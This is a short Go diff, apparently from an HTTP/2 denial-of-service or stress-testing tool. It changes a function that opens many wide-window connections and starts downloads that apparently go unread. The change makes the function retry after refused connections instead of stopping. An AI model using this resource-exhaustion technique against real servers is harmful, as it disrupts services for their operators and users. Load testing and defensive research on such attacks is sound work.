@@ -188,10 +188,12 @@ func unreadDownloads(ctx context.Context, a *attack) error {
 			c.close()
 		}
 	}()
-	for range connectionsMax {
+	for len(open) < connectionsMax && ctx.Err() == nil {
 		c, err := a.connect(ctx, false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: widestWindow})
-		if err != nil {
-			return err
+		if err != nil { // it comes too fast
+			a.refused.Add(1)
+			rest(ctx)
+			continue
 		}
 		open = append(open, c)
 		if err := c.downloads(downloads / connectionsMax); err != nil {
